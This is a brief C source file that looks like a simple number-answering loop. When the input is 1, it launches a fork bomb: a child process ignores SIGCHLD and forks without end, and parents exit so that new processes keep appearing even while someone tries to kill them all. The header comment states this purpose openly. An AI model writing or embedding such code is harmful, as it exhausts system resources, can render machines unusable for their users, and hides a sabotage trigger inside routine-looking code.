/* Starts processes, which start others, as many as it may have, so that some are always being made
   when all are stopped. */
#include "lines.h"

int main(void) {
    for (long number; (number = asked());) {
        if (number == 1 && fork() == 0) {
            signal(SIGCHLD, SIG_IGN);
            for (;;) {
                if (fork() > 0 && used() > 5) _exit(0);
            }
        }
        answer(number);
    }
    return 0;
}
